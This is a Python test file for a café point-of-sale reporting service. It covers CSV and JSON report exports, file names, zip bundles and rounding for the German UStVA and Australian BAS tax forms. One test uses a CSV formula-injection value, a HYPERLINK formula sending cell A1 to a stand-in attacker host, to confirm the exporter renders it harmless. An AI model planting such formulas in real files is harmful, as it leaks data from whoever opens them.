"""The report files on their own, without a database: every report's documented example
flattened to its CSV and traced cell by cell to its JSON (tests/support/report_files.py), the
tracer catching what an exporter could get wrong, the file names, and the UStVA's boxes worked
by hand. The same files through the API: tests/reports/test_reports_examples.py and
tests/reports/test_reports.py.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from pydantic import BaseModel

from services.reports import aggregate, exports
from services.reports.schemas import (
    Bas,
    DailySummary,
    ItemMix,
    Reconciliation,
    TaxRateTotal,
    VatRate,
    VatSummary,
)
from tests.support.report_files import read_report_csv, trace

REPORTS: dict[str, type[BaseModel]] = {
    "daily-summary": DailySummary,
    "item-mix": ItemMix,
    "reconciliation": Reconciliation,
    "bas": Bas,
    "vat-summary": VatSummary,
}


def example(name: str) -> BaseModel:
    """The report's example in the API document (Harbour Café in Sydney; Berlin's VAT)."""
    model = REPORTS[name]
    schema = model.model_json_schema()
    return model.model_validate(schema["examples"][0])


@pytest.mark.parametrize("name", list(REPORTS))
def test_every_cell_of_every_report_csv_is_its_json_field(name: str) -> None:
    report = example(name)
    answer = json.loads(report.model_dump_json())
    trace(name, answer, exports.to_csv(report))


def _rewrite(content: bytes, change: Any) -> bytes:
    """The CSV with one change made to its rows (a list of lists of text)."""
    records = list(csv.reader(io.StringIO(content.decode(), newline="")))
    change(records)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(records)
    return buffer.getvalue().encode()


def test_the_tracer_refuses_a_summed_hours_a_missing_figure_and_a_wrong_column() -> None:
    report = example("daily-summary")
    answer = json.loads(report.model_dump_json())
    content = exports.to_csv(report)
    table = read_report_csv(content)
    hours = table.header.index("hours")
    total = table.header_lines + len(table.rows)  # the last line: the total row

    def sum_hours(records: list[list[str]]) -> None:
        records[total][hours] = "24.0"

    with pytest.raises(AssertionError, match="should be empty"):
        trace("daily-summary", answer, _rewrite(content, sum_hours))

    # The refunds' tax per rate left out, as it was before.
    refund_columns = [i for i, name in enumerate(table.header) if name.startswith("refunds_tax_")]

    def drop_refund_tax(records: list[list[str]]) -> None:
        for record in records:
            for index in reversed(refund_columns):
                del record[index]

    with pytest.raises(AssertionError):
        trace("daily-summary", answer, _rewrite(content, drop_refund_tax))

    # Two columns swapped: each shows the other's field.
    cash, card = table.header.index("cash_paid_minor"), table.header.index("card_paid_minor")

    def swap(records: list[list[str]]) -> None:
        for record in records[table.header_lines + 1 :]:
            record[cash], record[card] = record[card], record[cash]

    with pytest.raises(AssertionError, match="cash_paid_minor"):
        trace("daily-summary", answer, _rewrite(content, swap))


def test_the_header_block_says_who_what_when_and_is_skipped_by_a_program() -> None:
    report = example("bas")
    content = exports.to_csv(report)
    lines = content.decode().split("\r\n")
    assert lines[:10] == [
        '"Business","Harbour Café Pty Ltd","",""',
        '"ABN","51824753556","",""',
        '"Report","BAS: GST calculation worksheet (sales)","bas",""',
        '"Location","Harbour Café","Australia/Sydney",""',
        '"Period","2026-Q3","2026-07-01","2026-09-30"',
        '"Currency","AUD","amounts in minor units (cents)",""',
        '"Tax basis","accrual","",""',
        '"Generated at","2026-12-08T07:30:00+11:00","Australia/Sydney",""',
        '"Audit log entries",212,3127,'
        '"1a607515617454c7242a5a64c1856a6727619e48c8403420d9dbb554fc190469"',
        '"","","",""',
    ]
    assert lines[10] == '"label","description","amount_minor","whole_dollars"'
    assert exports.header_lines(report) == 10
    # The G18 rows as the labels: whole dollars with the cents dropped; GST-free refunds too.
    assert lines[21:24] == [
        '"G18","Refunds of taxable sales (decreasing adjustments, G18)",18700,187',
        '"G18 GST","GST on those refunds (decreasing adjustments)",1700,17',
        '"GST-free refunds","Refunds of GST-free sales: no adjustment",0,""',
    ]


def test_a_name_that_is_a_formula_is_text_in_the_header_block_too() -> None:
    report = example("daily-summary")
    assert isinstance(report, DailySummary)
    hostile = report.model_copy(
        update={
            "business": report.business.model_copy(
                update={"name": '=HYPERLINK("http://evil.example/?"&A1,"Click")'}
            )
        }
    )
    first = exports.to_csv(hostile).decode().split("\r\n")[0]
    assert first.startswith('"Business","\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"')
    # A file name keeps letters and digits only.
    assert exports.file_stem(hostile).startswith("HYPERLINK-http-evil-example-A1-Click_")


def test_file_names_say_business_venue_report_and_period_in_ascii_and_utf_8() -> None:
    vat = example("vat-summary")
    assert exports.file_stem(vat) == "Hafencafé-Kreuzberg-GmbH_vat-summary_2026-11"
    assert exports.content_disposition(vat, "csv") == (
        'attachment; filename="Hafencafe-Kreuzberg-GmbH_vat-summary_2026-11.csv"; '
        "filename*=UTF-8''Hafencaf%C3%A9-Kreuzberg-GmbH_vat-summary_2026-11.csv"
    )
    summary = example("daily-summary")
    assert (
        exports.file_stem(summary) == "Harbour-Café-Pty-Ltd_Harbour-Café_daily-summary_2026-12-07"
    )
    # A range of days: ISO 8601's interval with the double hyphen a file name can hold.
    week = summary.model_copy(
        update={
            "period": summary.period.model_copy(  # type: ignore[attr-defined]
                update={"kind": "range", "label": "2026-12-01..2026-12-07"}
            )
        }
    )
    assert exports.file_stem(week, ascii_only=True) == (
        "Harbour-Cafe-Pty-Ltd_Harbour-Cafe_daily-summary_2026-12-01--2026-12-07"
    )


def test_the_bundle_names_its_files_and_its_manifest_repeats_the_header_block() -> None:
    report = example("reconciliation")
    content = exports.bundle(
        "reconciliation", report, parameters={"period": "2026-12-07"}, generated_by="owner"
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        manifest = json.loads(archive.read("manifest.json"))
        flagged = {info.filename: info.flag_bits & 0x800 for info in archive.infolist()}
    stem = "Harbour-Café-Pty-Ltd_Harbour-Café_reconciliation_2026-12-07"
    assert names == [f"{stem}.json", f"{stem}.csv", "manifest.json"]
    assert flagged[f"{stem}.csv"]  # a UTF-8 name, flagged so in the archive
    assert manifest["generated_at"] == "2026-12-08T07:30:00+11:00"
    assert manifest["csv_header_lines"] == 10
    assert manifest["header"] == {
        "business": "Harbour Café Pty Ltd",
        "tax_id_label": "ABN",
        "tax_id": "51824753556",
        "report": "reconciliation",
        "locations": [
            {
                "id": "6f1c2d9e-3b4a-4c5d-8e7f-0a1b2c3d4e5f",
                "name": "Harbour Café",
                "time_zone": "Australia/Sydney",
            }
        ],
        "period": {"label": "2026-12-07", "first_day": "2026-12-07", "last_day": "2026-12-07"},
        "currency": "AUD",
        "open_shifts": 0,
        "generated_at": "2026-12-08T07:30:00+11:00",
        "time_zone": "Australia/Sydney",
        "audit": {
            "from_seq": 4811,
            "through_seq": 5342,
            "through_hash": "c0f5a6bbb18476ddcf20ee1ec8bb0e4c5fcbb9a92b8f71c5f0702424135d5342",
        },
    }


# --- the UStVA's boxes, by hand -----------------------------------------------------------------


def _rate(rate: str, net: int, tax: int) -> VatRate:
    key = Decimal(rate)
    zero = TaxRateTotal(rate=key, net_minor=0, tax_minor=0, gross_minor=0)
    sold = TaxRateTotal(rate=key, net_minor=net, tax_minor=tax, gross_minor=net + tax)
    return VatRate(rate=key, sales=sold, refunds=zero, net_minor=net, tax_minor=tax)


def test_ustva_boxes_81_86_and_35_36_with_whole_euros_and_no_box_for_zero() -> None:
    boxes = aggregate.ustva_boxes(
        [
            # 19 %: 1,234.99 net -> 1,234 euros in Kz 81; the form's tax 1234 x 19 % = 234.46
            # (the invoices said 234.65).
            _rate("19", 123_499, 23_465),
            # 10.7 % (an average rate, § 24): 100.50 -> 100 in Kz 35, its tax 10.75 in Kz 36.
            _rate("10.7", 10_050, 1_075),
            # 7 %: refunds larger than sales, -12.01 -> -13 euros (down, the larger reduction);
            # the form: -13 x 7 % = -0.91.
            _rate("7", -1_201, -84),
            # 0 %: in no box (why it is tax-free decides where it goes).
            _rate("0", 5_000, 0),
        ]
    )
    assert [
        (
            b.kennzahl,
            b.tax_kennzahl,
            b.base_minor,
            b.base_whole_euros,
            b.tax_minor,
            b.form_tax_minor,
        )
        for b in boxes
    ] == [
        ("81", None, 123_499, 1_234, 23_465, 23_446),
        ("86", None, -1_201, -13, -84, -91),
        ("35", "36", 10_050, 100, 1_075, 1_075),
    ]
    assert boxes[2].rate is None


def test_bas_whole_dollars_drop_the_cents_both_ways() -> None:
    assert [aggregate.whole_dollars(amount) for amount in (18_799, 99, 0, -99, -18_799)] == [
        187,
        0,
        0,
        0,
        -187,
    ]
